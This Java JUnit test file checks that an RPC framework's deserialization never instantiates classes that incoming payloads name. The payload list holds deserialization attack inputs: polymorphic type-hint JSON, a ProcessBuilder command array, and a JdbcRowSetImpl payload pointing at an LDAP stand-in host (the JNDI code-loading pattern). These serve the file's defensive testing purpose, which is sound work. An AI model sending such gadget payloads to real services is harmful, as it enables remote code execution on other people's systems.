package dev.conduit.spring.service;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import dev.conduit.annotation.ConduitRpc;
import dev.conduit.message.ConduitException;
import dev.conduit.message.ContentType;
import dev.conduit.message.Payload;
import dev.conduit.spring.Applications;
import dev.conduit.spring.Calls;
import dev.conduit.spring.client.ConduitTemplate;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Whatever a payload says about classes: none is made that the receiver did not ask for.
 */
@TestInstance(Lifecycle.PER_CLASS)
class GadgetPayloadsTests {

	/** Classes that came to life because a payload named them. */
	static final AtomicInteger MADE = new AtomicInteger();

	private static final String GADGET = Gadget.class.getName();

	@AutoClose
	private final Applications applications = new Applications();

	private Calls calls;

	@BeforeAll
	void start() {
		this.applications.server(Service.class);
		this.calls = new Calls(this.applications.client());
	}

	static Stream<Payload> payloads() {
		List<Payload> all = new ArrayList<>();
		for (String json : List.of("{\"@class\":\"%s\",\"command\":\"id\"}".formatted(GADGET),
				"[\"%s\",{\"command\":\"id\"}]".formatted(GADGET),
				"{\"@type\":\"%s\",\"command\":\"id\"}".formatted(GADGET), "{\"class\":\"%s\"}".formatted(GADGET),
				"{\"@c\":\".GadgetPayloadsTests$Gadget\"}", "{\"__TypeId__\":\"%s\"}".formatted(GADGET),
				"{\"$type\":\"%s\"}".formatted(GADGET), "[\"java.lang.ProcessBuilder\",[[\"touch\",\"/tmp/gadget\"]]]",
				"{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.9/a\"}",
				"{\"name\":{\"@class\":\"%s\"}}".formatted(GADGET), "{\"name\":[\"%s\",{}]}".formatted(GADGET))) {
			all.add(Payload.of(json.getBytes(StandardCharsets.UTF_8), ContentType.JSON));
		}
		// An ArrayList of Java, a map of Hessian, a class of Kryo, an object of XML.
		for (byte[] bytes : List.of(HexFormat.of().parseHex("aced0005737200136a6176612e7574696c2e41727261794c697374"),
				HexFormat.of().parseHex("4d1b6a6176612e6c616e672e50726f636573734275696c6465725a"),
				HexFormat.of()
					.parseHex("010000" + HexFormat.of().formatHex(GADGET.getBytes(StandardCharsets.US_ASCII))),
				("<object class=\"" + GADGET + "\"/>").getBytes(StandardCharsets.UTF_8))) {
			for (String type : List.of("application/json", "application/cbor", "application/octet-stream", "text/plain",
					"application/x-java-serialized-object", "application/x-hessian", "application/x-kryo",
					"application/xml")) {
				all.add(Payload.of(bytes, new ContentType(type)));
			}
		}
		return all.stream();
	}

	@ParameterizedTest
	@MethodSource("payloads")
	void asArguments(Payload payload) {
		for (String route : List.of("anything", "map", "order", "list", "text")) {
			assertPlain(() -> this.calls.send(route, payload).payload().asText());
		}

		assertThat(MADE).hasValue(0);
	}

	@ParameterizedTest
	@MethodSource("payloads")
	void asMessages(Payload payload) {
		ConduitTemplate template = this.applications.template();

		assertPlain(() -> template.call("echo", payload, Object.class));
		assertPlain(() -> template.call("echo", payload, Order.class));

		assertThat(MADE).hasValue(0);
	}

	/** It is refused, or it is data of the types that every payload may have. */
	private static void assertPlain(Attempt attempt) {
		Object result;
		try {
			result = attempt.run();
		}
		catch (Exception ex) {
			Throwable failure = (ex instanceof ConduitException) ? ex : ex.getCause();
			assertThat(failure).as("how it was refused: " + ex).isInstanceOf(ConduitException.class);
			assertThat(((ConduitException) failure).problem().detail()).doesNotContain("Gadget$")
				.doesNotContain("ClassNotFound");
			return;
		}
		assertThat(result).isInstanceOfAny(String.class, Map.class, List.class, Number.class, Boolean.class,
				byte[].class, Order.class);
	}

	/**
	 * Something that may be refused.
	 */
	@FunctionalInterface
	private interface Attempt {

		Object run() throws Exception;

	}

	static class Service {

		@ConduitRpc("anything")
		String anything(@Nullable Object value) {
			return (value != null) ? kind(value) : "null";
		}

		@ConduitRpc("map")
		String map(Map<String, Object> value) {
			return kind(value);
		}

		@ConduitRpc("order")
		String order(Order order) {
			return String.valueOf(order.name());
		}

		@ConduitRpc("list")
		String list(List<Object> value) {
			return kind(value);
		}

		@ConduitRpc("text")
		String text(String value) {
			return "text";
		}

		@ConduitRpc("echo")
		Payload echo(Payload payload) {
			return payload;
		}

		private static String kind(Object value) {
			assertThat(value).isInstanceOfAny(String.class, Map.class, List.class, Number.class, Boolean.class,
					byte[].class);
			return "plain";
		}

	}

	record Order(@Nullable Object name) {

	}

	/** Notes that it was made. */
	public static class Gadget {

		static {
			MADE.incrementAndGet();
		}

		Gadget() {
			MADE.incrementAndGet();
		}

		public void setCommand(String command) {
			MADE.incrementAndGet();
		}

	}

}
